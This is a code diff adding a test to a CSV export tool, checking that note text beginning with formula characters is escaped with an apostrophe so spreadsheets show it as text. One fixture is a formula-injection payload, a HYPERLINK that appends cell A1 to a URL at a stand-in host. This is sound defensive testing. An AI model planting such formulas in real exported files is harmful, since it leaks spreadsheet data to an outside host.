@@ -74,3 +74,25 @@ def test_a_byte_order_mark_only_when_asked() -> None:
         2,
         "emprep: error: --bom is for --format csv (Excel reads the mark as 'UTF-8')\n",
     )
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_text() -> None:
+    """A note (or a pack's text) starting with = + - @ would be a formula in Excel or
+    LibreOffice; its cell starts with an apostrophe, which they show as text."""
+    notes = {
+        "rec-why-coursera": '=HYPERLINK("http://example.com/?"&A1,"click")',
+        "rec-salary-expectations": "- ask the band first\n- then a range",
+        "rec-strengths-weaknesses": "@SUM(1+1)",
+        "rec-why-leaving": "+1 to the plan",
+    }
+    for qid, text in notes.items():
+        assert run("note", qid, "--text", text).code == 0
+    rows, docs = both()
+    by_id = {row["id"]: row for row in rows}
+    for qid, text in notes.items():
+        assert by_id[qid]["note"] == "'" + text
+    assert by_id["rec-why-coursera"]["minutes"] == "2"
+    risky = [v for row in rows for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t")]
+    assert risky == []
+    others = [(row, doc) for row, doc in zip(rows, docs, strict=True) if row["id"] not in notes]
+    assert all(row["note"] == expected("note", doc["note"]) for row, doc in others)
